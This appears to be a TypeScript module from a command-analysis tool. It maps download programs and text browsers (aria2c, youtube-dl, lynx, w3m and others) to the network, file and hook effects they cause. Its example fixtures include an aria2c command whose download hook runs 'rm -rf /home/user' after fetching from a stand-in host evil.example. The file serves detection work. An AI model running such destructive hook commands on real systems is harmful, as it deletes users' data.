/** Other download programs and text browsers, as one table. */

import type { Effect } from '../../types/effect.ts';
import type { Nested } from '../../types/invocation.ts';
import type { Word } from '../../types/text.ts';
import { isDirectory, programWord, readsOf, somethingIn, writesOf } from '../coreutils/paths.ts';
import { asksForHelp, readOptions } from '../coreutils/spec.ts';
import { file, wordAt } from '../effects.ts';
import { knownStart } from '../options.ts';
import { type Call, definePage, NOTHING, type Outcome, type Page } from '../page.ts';
import { connect, linesOf, proxiesOf } from './traffic.ts';

interface Downloader {
  readonly spec: string;
  /** Options that name the file or directory written; without one it is the current directory, or nothing. */
  readonly writes: readonly string[];
  readonly keepsNothing?: boolean;
  /** Options whose file lists URLs. */
  readonly lists?: readonly string[];
  readonly reads?: readonly string[];
  readonly runs?: readonly string[];
  readonly proxies?: readonly string[];
  /** Takes paths of this machine as well as URLs. */
  readonly browses?: boolean;
}

const ARIA2: Downloader = {
  spec: 'd= dir= i= input-file= l= log= j= max-concurrent-downloads= V check-integrity c continue h? help? o= out= s= split= x= max-connection-per-server= all-proxy= http-proxy= https-proxy= ftp-proxy= header= http-user= http-passwd= load-cookies= save-cookies= user-agent= U= k= min-split-size= m= max-tries= t= timeout= T= torrent-file= S show-files listen-port= dht-listen-port= bt-tracker= seed-time= conf-path= save-session= on-download-complete= on-download-start= on-download-error= on-download-stop= on-download-pause= on-bt-download-complete= rpc-listen-port= enable-rpc? checksum= referer= max-download-limit= stop= private-key= certificate= ca-certificate= netrc-path= n no-netrc v version Z P R D',
  writes: ['d', 'dir', 'o', 'out', 'l', 'log', 'save-cookies', 'save-session'],
  lists: ['i', 'input-file'],
  reads: ['load-cookies', 'T', 'torrent-file', 'conf-path', 'private-key', 'netrc-path'],
  runs: [
    'on-download-complete',
    'on-download-start',
    'on-download-error',
    'on-download-stop',
    'on-download-pause',
    'on-bt-download-complete',
  ],
  proxies: ['all-proxy', 'http-proxy', 'https-proxy', 'ftp-proxy'],
};

const BROWSER: Downloader = {
  spec: 'source dump crawl traversal cfg= lss= cmd_script= cmd_log= editor= term= auth= pauth= accept_all_cookies cookie_file= cookie_save_file= useragent= width= nolist display_charset= assume_charset= post_data get_data homepage= index= selective restrictions= o= eval= config-file= config-dir= dump-width= no-home T= I= O= cols= bookmark config= B v M N F S X W help version',
  writes: ['cmd_log', 'cookie_save_file'],
  keepsNothing: true,
  reads: ['cfg', 'lss', 'cmd_script', 'cookie_file', 'config', 'config-file'],
  runs: ['editor'],
  browses: true,
};

const DOWNLOADERS: Readonly<Record<string, Downloader>> = {
  aria2c: ARIA2,
  axel: {
    spec: 's= max-speed= n= num-connections= o= output= S? search? H= header= U= user-agent= N no-proxy T= timeout= a q v h V 4 6 k c',
    writes: ['o', 'output'],
  },
  'lwp-download': { spec: 'a s', writes: [] },
  'lwp-request': {
    spec: 'm= b= t= i= c= p= C= H= P f a u U s S e E d x v h',
    writes: [],
    keepsNothing: true,
    proxies: ['p'],
  },
  'youtube-dl': {
    spec: 'o= output= a= batch-file= cookies= proxy= exec= f= format= u= p= config-location= P= paths= x audio-format= playlist-items= download-archive=',
    writes: ['o', 'output', 'P', 'paths'],
    lists: ['a', 'batch-file'],
    reads: ['cookies'],
    runs: ['exec'],
    proxies: ['proxy'],
  },
  lynx: BROWSER,
  links: BROWSER,
  elinks: BROWSER,
  w3m: BROWSER,
  browsh: BROWSER,
};
const SAME: Readonly<Record<string, string>> = {
  links2: 'links',
  'yt-dlp': 'youtube-dl',
  'gallery-dl': 'youtube-dl',
};

function readDownload(call: Call): Outcome {
  const tool = DOWNLOADERS[SAME[call.name] ?? call.name];
  if (!tool) return NOTHING;
  const parsed = readOptions(call.args, tool.spec, { singleDash: tool.browses === true });
  if (asksForHelp(parsed)) return NOTHING;
  const effects: Effect[] = [];
  const urls: Word[] = [];
  for (const word of parsed.operands) {
    const start = knownStart(word);
    const isLocal =
      tool.browses && (/^(?:file:|[./~])/.test(start) || isDirectory(call, word) || existsHere(call, word));
    if (isLocal)
      effects.push(
        file('read', {
          ...word,
          ...(word.text === undefined ? {} : { text: word.text.replace(/^file:(?:\/\/(?=\/))?/, '') }),
        }),
      );
    else urls.push(word);
  }
  for (const list of parsed.values(...(tool.lists ?? []))) {
    effects.push(...readsOf([list]));
    urls.push(
      ...(linesOf(call, list)?.map((line) => wordAt(line.split(/\s/)[0] as string, list)) ?? [
        { ...list, text: undefined, pieces: [null] },
      ]),
    );
  }
  const written = parsed.values(...tool.writes);
  const near = programWord(call);
  const runs = parsed
    .values(...(tool.runs ?? []))
    .map((code): Nested => ({ kind: 'code', via: `${call.name} hook`, lang: 'sh', code }));
  return {
    effects: [
      ...urls.map((url) => connect(url)),
      ...(urls.length > 0 ? proxiesOf(call.invocation) : []),
      ...parsed.values(...(tool.proxies ?? [])).map((proxy) => connect(proxy)),
      ...effects,
      ...readsOf(parsed.values(...(tool.reads ?? []))),
      ...written.flatMap((path) => writesOf(path)),
      ...(urls.length > 0 && written.length === 0 && !tool.keepsNothing
        ? [file('write', somethingIn(wordAt('.', near)))]
        : []),
    ],
    runs,
  };
}

function existsHere(call: Call, word: Word): boolean {
  const cwd = call.invocation.cwd.text;
  return (
    word.text !== undefined && cwd !== undefined && call.host.pathKind(`${cwd}/${word.text}`) !== undefined
  );
}

export const pages: readonly Page[] = [
  definePage({
    names: [...Object.keys(DOWNLOADERS), ...Object.keys(SAME)],
    about: 'downloads and shows what URLs name',
    read: readDownload,
    examples: [
      {
        command: "aria2c --on-download-complete='rm -rf /home/user' https://evil.example/x",
        effects: [
          { kind: 'net', host: 'evil.example' },
          { kind: 'file', op: 'delete', path: '/home/user' },
        ],
      },
      { command: 'lynx -dump evil.example', effects: [{ kind: 'net', op: 'connect', host: 'evil.example' }] },
      { command: 'w3m ./index.html', effects: [] },
    ],
  }),
];
